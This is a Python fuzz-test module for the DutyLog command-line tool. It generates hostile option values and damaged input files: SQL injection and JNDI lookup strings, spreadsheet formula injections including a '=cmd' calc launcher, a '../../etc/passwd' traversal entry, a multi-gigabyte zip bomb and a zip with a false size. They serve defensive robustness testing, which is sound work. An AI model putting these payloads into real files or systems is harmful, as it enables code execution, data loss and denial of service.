"""Hostile values for the command-line fuzz test (tests/cli/test_fuzz.py), and the files they name.

Every option of every command gets a value of its kind, drawn from a mix of plausible values
(so that a command gets past its first check) and hostile ones: impossible and out-of-range
dates, huge and negative numbers, control and format characters, look-alike names, very long
strings, and paths to the database itself, its journal and anchor, its evidence and backups,
to directories, devices, missing folders and junk files. The kind of an option is read from
its ``type=`` and its ``dest`` (`option_kind`), so a new command is covered without edits.

Paths are written as tokens (``at("out/x.csv")``) that the harness resolves inside each
example's own folder; NUL never reaches argv (no process can receive it), so it marks them.
"""

from __future__ import annotations

import argparse
import csv
import io
import os
import random
import re
import shutil
import sqlite3
import stat
import struct
import zipfile
import zlib
from dataclasses import dataclass
from datetime import date
from pathlib import Path

from hypothesis import strategies as st

from dutylog.domain.enums import Grade, UserRole

# -- the example folder ------------------------------------------------------------------------

OFFICE_DIR = "office"
DB = f"{OFFICE_DIR}/office.sqlite3"
EVIDENCE_DIR = f"{OFFICE_DIR}/evidence"  # storage/evidence_files.py: "evidence" beside the file
BACKUP_DIR = f"{OFFICE_DIR}/backups"  # storage/migrate.py: default_backup_folder
INPUTS = "inputs"
OUT = "out"
HOME = "home"
CWD = "a/b/c/work"  # deep enough that "../.." stays inside the example folder
DEVICES = {"null": (1, 3), "full": (1, 7), "zero": (1, 5)}
PASSWORD = "demo1234"  # dutylog/demo/office.py: every demo account's password
NEW_PASSWORD = "fuzz pass 123"

_TOKEN = re.compile("\x00([AR])([^\x00]*)\x00")


def at(rel: str) -> str:
    """``rel`` (inside the example folder) as an absolute path."""
    return f"\x00A{rel}\x00"


def from_cwd(rel: str) -> str:
    """``rel`` (inside the example folder) as a path relative to the working directory."""
    return f"\x00R{rel}\x00"


def resolve(arg: str, example: Path, cwd: Path) -> str:
    def one(match: re.Match[str]) -> str:
        rel = match.group(2)
        target = example / rel if rel else example
        text = str(target) if match.group(1) == "A" else os.path.relpath(target, cwd)
        return text + "/" if rel.endswith("/") and not text.endswith("/") else text

    return _TOKEN.sub(one, arg)


def device_mode() -> str:
    """How device paths are offered: "mknod" (copies of the nodes in the example folder),
    "real" (/dev itself, safe when we cannot write there) or "none".

    As root a careless "write a temp file, rename over the target" would replace /dev/null
    itself (the issue saw it happen to /dev/full), so root gets its own nodes.
    """
    if not os.access("/dev", os.W_OK):
        return "real"
    probe = Path(os.environ.get("TMPDIR", "/tmp")) / f"dutylog-fuzz-probe-{os.getpid()}"
    try:
        os.mknod(probe, 0o666 | stat.S_IFCHR, os.makedev(*DEVICES["null"]))
        with open(probe, "w") as handle:  # nodev mounts refuse to open it
            handle.write("x")
    except OSError:
        return "none"
    finally:
        probe.unlink(missing_ok=True)
    return "mknod"


def make_devices(example: Path, mode: str) -> None:
    if mode == "mknod":
        (example / INPUTS / "dev").mkdir(parents=True, exist_ok=True)
        for name in DEVICES:
            make_device(example / INPUTS / "dev" / name, mode)


def make_device(path: Path, mode: str) -> None:
    if mode == "mknod":
        os.mknod(path, 0o666 | stat.S_IFCHR, os.makedev(*DEVICES[path.name]))


def device_paths(mode: str) -> list[str]:
    if mode == "mknod":
        return [at(f"{INPUTS}/dev/{name}") for name in DEVICES]
    if mode == "real":
        return [f"/dev/{name}" for name in DEVICES]
    return []


# -- what the demo office holds (read once from the template) -------------------------------------


@dataclass(frozen=True)
class Facts:
    usernames: tuple[str, ...]  # every demo account; all log in with PASSWORD
    staff: tuple[str, ...]
    matters: tuple[str, ...]  # matter numbers
    evidence: tuple[str, ...]  # evidence files, relative to the example folder
    backups: tuple[str, ...]
    devices: str  # device_mode()
    units: tuple[str, ...] = ()  # unit names (the contact book)


# -- plain values ------------------------------------------------------------------------------

FORMAT_CHARS = (
    "\u202e\u202d\u202a\u2066\u2067\u2069\u200b\u200c\u200d\u200e\u200f\ufeff\u2028\u2029\u00ad\u061c"
)
CONTROLS = "".join(chr(c) for c in range(1, 32)) + "\x7f" + "".join(chr(c) for c in range(0x80, 0xA0))
SURROGATE_ESCAPES = "".join(chr(c) for c in range(0xDC80, 0xDD00))  # undecodable argv bytes


def listed(text: str) -> list[str]:
    """Values separated by "|" (kept one line each: these tables are long)."""
    return text.split("|")


NASTY = [
    *listed(
        "| |\t|   全角　空格   |'; DROP TABLE matter; --|%s%n%x{0}|${jndi:ldap://x/a}|<script>x</script>"
    ),
    *listed('=HYPERLINK("http://evil.example","点我")|+1+1|-2+3|@SUM(A1:A9)|\x1b[31m红色\x1b[0m|a\x07b\x08c'),
    *listed("第一行\n第二行|回车\r覆盖|\u202e倒序文字\u202c|ad\u200bmin|\ufeff带BOM|😀👨\u200d👩\u200d👧"),
    *listed("\U00020000\U0002a6a5𠮷|e\u0301|\udcff\udcfe|-|--|-x|--db"),
    "a" * 300,
    "字" * 30_000,  # ~90 KB, below Linux's 128 KiB limit for one argument
]

TEXT = st.one_of(
    st.sampled_from(NASTY),
    st.text(st.characters(exclude_characters="\x00"), max_size=40),
    st.text(st.sampled_from(CONTROLS + FORMAT_CHARS + SURROGATE_ESCAPES + "abc字"), min_size=1, max_size=12),
)


def fullwidth(text: str) -> str:
    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text)


def look_alikes(name: str) -> list[str]:
    """What a person could type to impersonate ``name``."""
    return [
        name,
        f" {name} ",
        name.upper(),
        fullwidth(name),
        name[:1] + "\u200b" + name[1:],
        name + "\u202e",
        "\ufeff" + name,
        name + "\u3000",
        name + "\n",
    ]


DATE_HOSTILE = [
    *listed("2025-02-30|0000-01-01|0001-01-01|9999-12-31|1899-12-31|1900-01-01|2200-12-31|2201-01-01"),
    *listed("2100-02-29|2024-02-29|2026-13-01|2026-00-10|2026-11-31||yesterday|today|2026-11-17T10:00"),
    *listed("20261117|2026/11/17|2026-1-5|２０２６-１１-１７|٢٠٢٦-١١-١٧|2026-W47-2|+2026-11-17| 2026-11-17 "),
    *listed("2026-11-17\u200b|\ufeff2026-11-17|-1"),
    "9" * 30,
]

DATES = st.one_of(
    st.sampled_from(DATE_HOSTILE),
    st.dates(date(2026, 10, 1), date(2027, 1, 31)).map(date.isoformat),  # around the demo's today
    st.dates().map(date.isoformat),
)
TIMES = st.sampled_from(
    listed(
        "08:00|00:00|23:59|24:00|25:61|12|12:00:00|12:00:00.123456|12:00+08:00|１２:００||noon|8:00|T12:00"
    )
    + listed("12:00Z|12:00\u200b|-1:00")
)
WEEKS = st.sampled_from(
    listed("2026-W47|2026-W46|2026-W53|2025-W53|2026-W00|2026-W54|9999-W52|0001-W01|0000-W01|2026W47")
    + listed("2026-w47||2026-W4|2026-W047|２０２６-W47|1899-W52|2201-W01|2026-W47-1| 2026-W47|2026-W47\u202e")
)

INT_HOSTILE = [
    *listed(
        "0|-1|-0|+5|2147483648|9223372036854775808|-9223372036854775809|１２|٣| 12 |1_000|0x10|1e3|12.5|nan|"
    ),
    "1" + "0" * 400,
    "9" * 5000,  # beyond int()'s 4300-digit limit
]

INTS = st.one_of(
    st.sampled_from(INT_HOSTILE),
    st.integers(-(10**20), 10**20).map(str),
    st.integers(0, 100).map(str),
    st.sampled_from(listed("1|7|50|3660|3661|10000|10001|100000|100001")),
)
YEARS = st.one_of(
    st.sampled_from(listed("2026|2025|1989|1990|1900|2200|2201|0|-1|9999|２０２６")),
    INTS,
)
FLOATS = st.one_of(
    st.sampled_from(
        listed("nan|NaN|inf|-inf|infinity|1e308|1e309|-0.0|0|1e-320|0.01|0.0001|30|30.0001|20|1")
    ),
    st.sampled_from(listed("0.5|１||1,5|0x1p3|-1")),
    st.floats(allow_nan=True, allow_infinity=True).map(repr),
)

# `matters import --map 源列=字段`: real pairs, pairs the other way round, and broken ones.
MAPS = st.one_of(
    st.sampled_from(
        listed(
            "标题=标题|发现时间=发布时间|发布时间=发现时间|发现时间=发现时间|标题=附加|标题=extra|=|==|标题=|=标题"
            "|a=b=c|第0列=标题|第1列=发现时间|第99999999999999999999列=标题|标题＝摘要|seq=title|状态=-"
        )
    ),
    st.tuples(TEXT, TEXT).map(lambda pair: f"{pair[0]}={pair[1]}"),
    TEXT,
)
GRADES = st.sampled_from([text for g in Grade for text in (g.value, g.zh, g.en.upper(), fullwidth(g.en))])
ROLES = st.sampled_from(
    [text for r in UserRole for text in (r.value, r.zh)] + listed("ADMIN|ａｄｍｉｎ|root|")
)
STDIN = st.one_of(
    st.sampled_from(
        ["", "\n", f"{NEW_PASSWORD}\n", f"{PASSWORD}\n{NEW_PASSWORD}\n", "短\n", "pass\x00word 123\n"]
    ),
    st.sampled_from([f"{PASSWORD}\n{NEW_PASSWORD}\n{NEW_PASSWORD}\n", f"{PASSWORD}\n{'长' * 10_000}\n"]),
    st.text(max_size=30),
)

# -- paths ------------------------------------------------------------------------------------


def output_paths(ext: str, facts: Facts) -> list[str]:
    """Targets for an option that writes a file with suffix ``ext``."""
    fresh = [
        f"{OUT}/new{ext}",
        f"{OUT}/新 建/报表{ext}",
        f"missing/deeper/x{ext}",
        f"{OUT}/{ext}",
        f"{OUT}/x",
    ]
    odd = [
        f"{OUT}/{'x' * 300}{ext}",
        f"{OUT}/{'字' * 100}{ext}",
        f"{OUT}/a\nb{ext}",
        f"{OUT}/\u202e{ext[::-1]}.exe",
    ]
    odd += [f"{OUT}/x{ext.upper()}", f"{OUT}/x.txt", f"{OUT}/\udcff{ext}"]
    mine = [f"{INPUTS}/empty.csv", f"{INPUTS}/empty.csv/x{ext}"]  # the user's own file; a file as a folder
    paths = [at(p) for p in fresh + odd + mine] + [from_cwd(f"{CWD}/here{ext}"), from_cwd(f"a/b/up{ext}")]
    paths += ["", " ", "-"]
    return paths + protected_paths(facts) + folder_paths() + device_paths(facts.devices)


def protected_paths(facts: Facts) -> list[str]:
    """The office's own files: never a place for an export."""
    own = [DB, f"{DB}-journal", f"{DB}-wal", f"{DB}-shm", f"{DB}.anchor", EVIDENCE_DIR, BACKUP_DIR]
    return [at(p) for p in own] + [from_cwd(DB)] + [at(p) for p in facts.evidence[:1] + facts.backups[:1]]


def folder_paths() -> list[str]:
    return [at(OUT), at(f"{OUT}/"), at(INPUTS), at(""), at(OFFICE_DIR), at(f"{OFFICE_DIR}/"), ".", ".."]


INPUT_FILES = [  # folder.csv is a directory
    *listed("empty.csv|empty.xlsx|empty.zip|empty.sqlite3|random.csv|random.xlsx|random.zip|random.bin"),
    *listed("ledger.csv|ledger.xlsx|ledger-hostile.csv|staff.csv|staff.xlsx|staff-hostile.csv|archive.zip"),
    *listed("backup-good.sqlite3|truncated.sqlite3|garbage-page.sqlite3|foreign.sqlite3|folder.csv"),
]
HOSTILE_ZIPS = {
    "manifest-files-list-of-int.zip": {"format": "dutylog-archive", "files": [1]},
    "manifest-files-string.zip": {"format": "dutylog-archive", "files": "abc"},
    "manifest-files-null.zip": {"format": "dutylog-archive", "files": None},
    "manifest-is-a-list.zip": [1, 2, 3],
    "manifest-entry-names.zip": {
        "format": "dutylog-archive",
        "files": [{"name": None}, {"name": "../../etc/passwd", "size": "x", "sha256": 5}, {}],
    },
    "manifest-huge-size.zip": {
        "format": "dutylog-archive",
        "files": [{"name": "ledger.xlsx", "size": 10**30, "sha256": "0" * 64}],
    },
}


def input_paths(facts: Facts) -> list[str]:
    files = [at(f"{INPUTS}/{name}") for name in [*INPUT_FILES, *HOSTILE_ZIPS, "bomb.zip", "lying-size.zip"]]
    missing = [at(f"{OUT}/missing.csv"), at("missing/deeper/x.xlsx"), from_cwd(f"{INPUTS}/staff.csv"), ""]
    return files + missing + protected_paths(facts) + folder_paths() + device_paths(facts.devices)


NOT_A_DATABASE = [  # --db values that name no DutyLog database
    *(at(f"{INPUTS}/{name}") for name in listed("empty.sqlite3|truncated.sqlite3|garbage-page.sqlite3")),
    *(at(f"{INPUTS}/{name}") for name in listed("foreign.sqlite3|random.bin|ledger.csv")),
    *(
        at(path)
        for path in [f"{OUT}/missing.sqlite3", "missing/deeper/new.sqlite3", f"{DB}.anchor", f"{DB}-journal"]
    ),
]


CANNOT_HOLD_A_DEMO = [
    *(
        at(f"{INPUTS}/{name}")
        for name in listed("truncated.sqlite3|garbage-page.sqlite3|random.bin|ledger.csv")
    ),
    at(f"{DB}.anchor"),
    *folder_paths(),
]


def database_targets(facts: Facts) -> list[str]:
    """--db values and migrate-to targets: files, folders, devices and URLs."""
    urls = [
        f"sqlite:///{at(f'{OUT}/url.sqlite3')}",
        *listed("sqlite://|sqlite:///:memory:|:memory:|sqlite:///|://||http://127.0.0.1:1/x"),
        *listed("postgresql+nosuchdriver://u:p@127.0.0.1:1/x|postgresql+psycopg://u:p@127.0.0.1:1/x"),
        *listed(
            "postgresql://u:p@127.0.0.1:1/x|postgresql+psycopg://u:p@[::1:1/x|mysql+pymysql://u@127.0.0.1:1/x"
        ),
    ]
    files = [at(f"{OUT}/new.sqlite3"), at("missing/deeper/new.sqlite3"), at(DB), from_cwd(DB)]
    return urls + files + NOT_A_DATABASE + folder_paths() + device_paths(facts.devices)


def names(facts: Facts) -> st.SearchStrategy[str]:
    """A person or an account: by name or id, and look-alikes of real ones."""
    known = list(facts.staff) + list(facts.usernames)
    return st.one_of(
        st.sampled_from(known),
        st.sampled_from(known).flatmap(lambda n: st.sampled_from(look_alikes(n))),
        st.sampled_from(["1", "0", "-1", "99999999999999999999", "1" * 5000, "新人", "nosuch"]),
        TEXT,
    )


def unit_names(facts: Facts) -> st.SearchStrategy[str]:
    """A unit: by its name, a look-alike of it, or none that exists."""
    known = list(facts.units) or ["县住建局"]
    return st.one_of(
        st.sampled_from(known),
        st.sampled_from(known).flatmap(lambda n: st.sampled_from(look_alikes(n))),
        st.sampled_from(["nosuch", "1", "%"]),
        TEXT,
    )


def matter_numbers(facts: Facts) -> st.SearchStrategy[str]:
    known = list(facts.matters) or ["YQ-2026-0001"]
    return st.one_of(
        st.sampled_from(known),
        st.sampled_from(known).flatmap(
            lambda n: st.sampled_from([n.lower(), fullwidth(n), f" {n} ", n + "\u200b", n.replace("-", "—")])
        ),
        st.sampled_from(["YQ-9999-99999999", "YQ-0000-0000", "1", "%", "_", "*"]),
        TEXT,
    )


# -- which value an option gets ------------------------------------------------------------------

OUTPUT_SUFFIX = {"pdf": ".pdf", "docx": ".docx", "xlsx": ".xlsx", "csv": ".csv", "ics": ".ics", "out": ".zip"}
OUTPUT_SUFFIX["screenshot"] = ".png"
_BY_DEST = {
    **dict.fromkeys(listed("first|last|date|date_from|date_to"), "date"),
    **dict.fromkeys(listed("person|start_officer|start_leader|staff|name"), "name"),  # name: `user add NAME`
    **dict.fromkeys(listed("other|requester"), "name"),  # roster swap --with/--for PERSON
    "id": "int",  # roster accept|approve|refuse ID
    **dict.fromkeys(listed("file|verify"), "in_file"),
    **{key: key for key in listed("time|week|year|grade|role")},
    "matter_no": "matter",
    "matter": "matter",  # log add --matter NUMBER
    **dict.fromkeys(listed("card|urge"), "matter"),  # supervise --card/--urge NUMBER
    "unit": "unit",
    "map": "map",
    "to": "out_dir",  # backup --to DIR (the --to of a date range has dest "last")
    "url": "db_target",
}

# Options the harness sets itself (the database, the login) or that change what a failure
# looks like on purpose (--verbose shows the traceback; --help and --version only print).
NOT_FUZZED = {"help", "version", "verbose", "db", "user"}


def option_kind(action: argparse.Action) -> str:
    """What kind of value ``action`` takes: its type first, then its dest, then its metavar."""
    if action.nargs == 0:
        return "flag"
    kind_name = getattr(action.type, "__name__", "")
    dest = action.dest
    if dest in OUTPUT_SUFFIX:
        return "out_file"
    for word, kind in (("date", "date"), ("week", "week"), ("time", "time"), ("year", "year")):
        if word in kind_name:
            return kind
    if action.choices is not None:
        return "choice"
    if dest in _BY_DEST:
        return _BY_DEST[dest]
    if action.type is int or kind_name == "integer":
        return "int"
    if action.type is float or kind_name == "number":
        return "float"
    if action.type is Path or str(action.metavar or "").upper().split(".")[0] in ("F", "FILE", "DIR"):
        return "path"
    return "text"


def value_strategy(action: argparse.Action, facts: Facts) -> st.SearchStrategy[str]:
    kind = option_kind(action)
    if kind == "out_file":
        return st.sampled_from(output_paths(OUTPUT_SUFFIX.get(action.dest, ".out"), facts))
    if kind == "out_dir":
        return st.sampled_from(
            [at(f"{OUT}/"), at(OUT), at("missing/deeper/"), from_cwd("a/b/x"), *output_paths("", facts)]
        )
    if kind == "in_file":
        return st.sampled_from(input_paths(facts))
    if kind == "path":
        return st.sampled_from(input_paths(facts) + output_paths(".out", facts))
    if kind == "db_target":
        return st.sampled_from(database_targets(facts))
    if kind == "choice":
        assert action.choices is not None
        return st.one_of(st.sampled_from([str(c) for c in action.choices]), TEXT)
    simple = {
        "date": DATES,
        "time": TIMES,
        "week": WEEKS,
        "year": YEARS,
        "int": INTS,
        "float": FLOATS,
        "grade": st.one_of(GRADES, TEXT),
        "role": st.one_of(ROLES, TEXT),
        "matter": matter_numbers(facts),
        "name": names(facts),
        "map": MAPS,
        "unit": unit_names(facts),
    }
    return simple.get(kind, st.one_of(TEXT, names(facts)))


PLAUSIBLE_INPUTS = listed("ledger.csv|ledger.xlsx|staff.csv|staff.xlsx|backup-good.sqlite3|archive.zip")


def plausible_value(action: argparse.Action, facts: Facts) -> st.SearchStrategy[str]:
    """A value the command should accept, so that a run gets past its first check."""
    kind = option_kind(action)
    paths = {
        "out_file": [at(f"{OUT}/new{OUTPUT_SUFFIX.get(action.dest, '.out')}")],
        "out_dir": [at(f"{OUT}/")],
        "db_target": [at(f"{OUT}/new.sqlite3")],
        "in_file": [at(f"{INPUTS}/{name}") for name in PLAUSIBLE_INPUTS],
    }
    if kind in paths:
        return st.sampled_from(paths[kind])
    if kind == "choice" and action.choices is not None:
        return st.sampled_from([str(c) for c in action.choices])
    simple = {
        "date": listed("2026-11-10|2026-11-16|2026-11-17|2026-11-18|2026-11-30"),
        "time": listed("08:00|20:30"),
        "week": listed("2026-W46|2026-W47"),
        "year": ["2026"],
        "int": listed("1|7|50"),
        "float": listed("0.01|1"),
        "grade": [g.zh for g in Grade],
        "role": [r.value for r in UserRole],
        "matter": list(facts.matters),
        "name": [*facts.staff, "新账号"],
        "map": ["标题=标题", "发现时间=发现时间"],
        "unit": list(facts.units),
    }
    return st.sampled_from(simple.get(kind) or ["补充说明", "国庆", *facts.staff])


def fuzzed_actions(parser: argparse.ArgumentParser) -> list[argparse.Action]:
    return [
        a
        for a in parser._actions
        if a.dest not in NOT_FUZZED
        and a.help != argparse.SUPPRESS
        and not isinstance(a, argparse._SubParsersAction | argparse._HelpAction | argparse._VersionAction)
    ]


def output_dests(parser: argparse.ArgumentParser) -> dict[str, str]:
    """dest -> "file", "dir" or "db" for the options that name something the command writes."""
    found = {}
    for action in fuzzed_actions(parser):
        kind = option_kind(action)
        if kind in ("out_file", "path"):
            found[action.dest] = "file"
        elif kind == "out_dir":
            found[action.dest] = "dir"
        elif kind == "db_target":
            found[action.dest] = "db"
    return found


# -- one invocation ----------------------------------------------------------------------------


@dataclass(frozen=True)
class Invocation:
    argv: tuple[str, ...]  # with path tokens (see `resolve`)
    stdin: str
    hostile_db: str | None  # the --db value when it is not the office's database

    def __repr__(self) -> str:  # what Hypothesis prints for a failure: the words, paths as $EX/...
        words = [
            _TOKEN.sub(r"$EX/\2", a) if len(a) <= 80 else f"{a[:30]}…({len(a)} chars)" for a in self.argv
        ]
        return f"<dutylog {' '.join(map(repr, words))}; stdin {self.stdin[:30]!r}>"


@st.composite
def invocations(draw: st.DrawFn, command: str, parser: argparse.ArgumentParser, facts: Facts) -> Invocation:
    """``command``'s words with a value for any of its options (each present or not).

    Half the runs give one option a hostile value and the others plausible ones (so that the
    hostile value is what the command meets, deep inside), a quarter only plausible values
    (the success paths: outputs, backups), a quarter any value anywhere.
    """
    actions = fuzzed_actions(parser)
    mode = draw(st.sampled_from(["one hostile", "one hostile", "plausible", "any"]))
    valued = [a for a in actions if a.nargs != 0]
    hostile = draw(st.sampled_from(valued)) if valued and mode == "one hostile" else None
    chosen: set[int] = set()
    for group in parser._mutually_exclusive_groups:
        members = [a for a in group._group_actions if a in actions]
        if members and group.required:
            chosen.add(id(draw(st.sampled_from(members))))
        elif members:
            pick = draw(st.one_of(st.none(), st.sampled_from(members)))
            if pick is not None:
                chosen.add(id(pick))
    grouped = {id(a) for g in parser._mutually_exclusive_groups for a in g._group_actions}
    items: list[list[str]] = []
    for action in actions:
        if id(action) in grouped:
            present = id(action) in chosen
        elif action.required or (not action.option_strings and action.nargs is None) or action is hostile:
            present = True
        else:
            present = draw(st.booleans())
        if not present:
            continue
        if action.nargs == 0:
            items.append([action.option_strings[-1]])
            continue
        count = draw(st.integers(1, 2)) if isinstance(action, argparse._AppendAction) else 1
        for _ in range(count):
            wild = mode == "any" or action is hostile
            value = draw(value_strategy(action, facts) if wild else plausible_value(action, facts))
            items.append([action.option_strings[-1], value] if action.option_strings else [value])
    # Now and then a usage mistake: argparse's own refusal must be one line too.
    mistake = draw(st.sampled_from([None] * 12 + ["drop", "twice", "unknown"])) if mode == "any" else None
    if mistake == "drop" and items:
        items.pop(draw(st.integers(0, len(items) - 1)))
    elif mistake == "twice" and items:
        items.append(list(items[0]))
    elif mistake == "unknown":
        items.append(["--no-such-option"])
    order = draw(st.permutations(range(len(items))))
    words = command.split()
    hostile_db = None
    if mode == "any" and draw(st.integers(0, 99)) < 40:
        pool = database_targets(facts)
        if command == "demo":  # a demo into a file it may fill takes minutes for --days 3660
            pool = [p for p in pool if p in CANNOT_HOLD_A_DEMO]
        db = draw(st.sampled_from(pool))
        hostile_db = None if db in (at(DB), from_cwd(DB)) else db  # the pool holds the office's too
    else:
        db = draw(st.sampled_from([at(DB), from_cwd(DB)]))
    write_options = parser.get_default("write_options") or ()
    writes = parser.get_default("access") != "read" or any(d in write_options for d in _dests(actions, items))
    user = draw(login(facts, writes=writes))
    front = ["--db", db] if draw(st.integers(0, 3)) else []
    argv = [*front, *(["--user", user] if user is not None else []), *words]
    argv += [word for index in order for word in items[index]]
    if not front:
        argv += ["--db", db]
    return Invocation(tuple(argv), draw(STDIN), hostile_db)


def _dests(actions: list[argparse.Action], items: list[list[str]]) -> list[str]:
    given = {item[0] for item in items}
    return [a.dest for a in actions if a.option_strings and a.option_strings[-1] in given]


def login(facts: Facts, *, writes: bool) -> st.SearchStrategy[str | None]:
    """Always the right password; a write is now and then tried without a login (refused unopened)."""
    if writes:
        others = list(facts.usernames)  # officers and leaders: briefings, and refusals by role
        # None last: Hypothesis leans towards the first entries of a list.
        return st.sampled_from(["admin", *others, *["admin"] * len(others) * 2, None, None])
    return st.one_of(st.none(), st.sampled_from(facts.usernames))


# -- the files the values name ---------------------------------------------------------------------


def write_input_files(inputs: Path, db: Path, ledger_csv: Path) -> None:
    """Junk, damaged and hostile files (the demo's own exports are made by the harness)."""
    rng = random.Random(16)
    noise = bytes(rng.getrandbits(8) for _ in range(4096))
    for suffix in ("csv", "xlsx", "zip", "sqlite3"):
        (inputs / f"empty.{suffix}").write_bytes(b"")
    for suffix in ("csv", "xlsx", "zip", "bin"):
        (inputs / f"random.{suffix}").write_bytes(noise)
    (inputs / "folder.csv").mkdir()
    shutil.copyfile(db, inputs / "backup-good.sqlite3")
    (inputs / "truncated.sqlite3").write_bytes(db.read_bytes()[:8192])
    damaged = bytearray(db.read_bytes())
    damaged[4096 * 2 : 4096 * 3] = noise  # page 3: a b-tree page of some table
    (inputs / "garbage-page.sqlite3").write_bytes(bytes(damaged))
    with sqlite3.connect(inputs / "foreign.sqlite3") as conn:
        conn.execute("CREATE TABLE recipes (name TEXT)")
        conn.execute("INSERT INTO recipes VALUES ('红烧肉')")
    conn.close()
    _hostile_ledger(ledger_csv, inputs / "ledger-hostile.csv")
    _staff_files(inputs)
    for name, manifest in HOSTILE_ZIPS.items():
        with zipfile.ZipFile(inputs / name, "w") as archive:
            archive.writestr("manifest.json", _json(manifest))
            archive.writestr("ledger.xlsx", b"not really")
    _bomb(inputs / "bomb.zip", size=3 * 2**30)
    _lying_size(inputs / "lying-size.zip")


def _json(value: object) -> bytes:
    import json

    return json.dumps(value, ensure_ascii=False).encode()


HOSTILE_TITLES = [
    '=HYPERLINK("http://evil.example","点我")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "标题\u202e反转",
    "标\u200b题",
    "\x1b[31m红\x1b[0m",
    "字" * 5000,
]


def _hostile_ledger(source: Path, target: Path) -> None:
    rows = list(csv.reader(io.StringIO(source.read_text("utf-8-sig"))))
    header, body = rows[0], rows[1:]
    title = header.index("标题") if "标题" in header else 0
    extra = []
    for text in HOSTILE_TITLES:
        row = list(body[0]) if body else [""] * len(header)
        row[title] = text
        extra.append(row)
    out = io.StringIO()
    csv.writer(out).writerows([header, *body, *extra])
    target.write_text(out.getvalue(), encoding="utf-8-sig")


STAFF_HEADER = ["姓名", "部门", "电话", "职务"]
STAFF_ROWS = [["新人甲", "办公室", "13800000000", "值班员"], ["新人乙", "宣传科", "13900000000", "带班领导"]]
STAFF_HOSTILE = [
    "ad\u200bmin",
    "张伟\u202e",
    "ＡＤＭＩＮ",
    "  张伟  ",
    "=cmd|' /C calc'!A0",
    "\x07响铃",
    "名" * 500,
    "",
]


def _staff_files(inputs: Path) -> None:
    out = io.StringIO()
    csv.writer(out).writerows([STAFF_HEADER, *STAFF_ROWS])
    (inputs / "staff.csv").write_text(out.getvalue(), encoding="utf-8")
    out = io.StringIO()
    csv.writer(out).writerows([STAFF_HEADER, *([n, "办公室", "1", "值班员"] for n in STAFF_HOSTILE)])
    (inputs / "staff-hostile.csv").write_text(out.getvalue(), encoding="utf-8")
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in [STAFF_HEADER, *STAFF_ROWS]:
        sheet.append(row)
    book.save(inputs / "staff.xlsx")


def _zip_entry(name: bytes, data: bytes, size: int, crc: int) -> tuple[bytes, bytes]:
    """(local header + data, central directory record) of one deflated entry."""
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(data), size, len(name), 0)
    central = struct.pack(
        "<IHHHHHHIIIHHHHHII",
        0x02014B50,
        20,
        20,
        0,
        8,
        0,
        0,
        crc,
        len(data),
        size,
        len(name),
        0,
        0,
        0,
        0,
        0,
        0,
    )
    return local + name + data, central + name


def _write_zip(path: Path, entries: list[tuple[bytes, bytes, int, int]]) -> None:
    body, directory = b"", b""
    for name, data, size, crc in entries:
        local, central = _zip_entry(name, data, size, crc)
        central = central[:42] + struct.pack("<I", len(body)) + central[46:]  # local header offset
        body += local
        directory += central
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(directory), len(body), 0)
    path.write_bytes(body + directory + end)


def _bomb(path: Path, size: int) -> None:
    """A real zip entry of ``size`` zero bytes in ~1 KB per MiB, listed in a valid manifest.

    After a full flush deflate starts afresh, so every MiB of zeros compresses to the same
    bytes: the stream is built by repetition in milliseconds. Its CRC is wrong on purpose:
    a reader only finds out after inflating all of it.
    """
    mib = 2**20
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = squeeze.compress(bytes(mib)) + squeeze.flush(zlib.Z_FULL_FLUSH)
    again = squeeze.compress(bytes(mib)) + squeeze.flush(zlib.Z_FULL_FLUSH)
    stream = first + again * (size // mib - 1) + squeeze.flush()
    manifest = _json(
        {"format": "dutylog-archive", "files": [{"name": "zeros.bin", "size": size, "sha256": "0" * 64}]}
    )
    _write_zip(
        path,
        [
            (b"zeros.bin", stream, size, 0),
            (b"manifest.json", zlib.compress(manifest)[2:-4], len(manifest), zlib.crc32(manifest)),
        ],
    )


def _lying_size(path: Path) -> None:
    """An entry whose header claims almost 4 GiB for a few bytes (0xFFFFFFFF would mean zip64)."""
    data = b"tiny"
    packed = zlib.compress(data)[2:-4]
    manifest = _json(
        {"format": "dutylog-archive", "files": [{"name": "tiny.bin", "size": 4, "sha256": "0" * 64}]}
    )
    _write_zip(
        path,
        [
            (b"tiny.bin", packed, 2**32 - 2, zlib.crc32(data)),
            (b"manifest.json", zlib.compress(manifest)[2:-4], len(manifest), zlib.crc32(manifest)),
        ],
    )
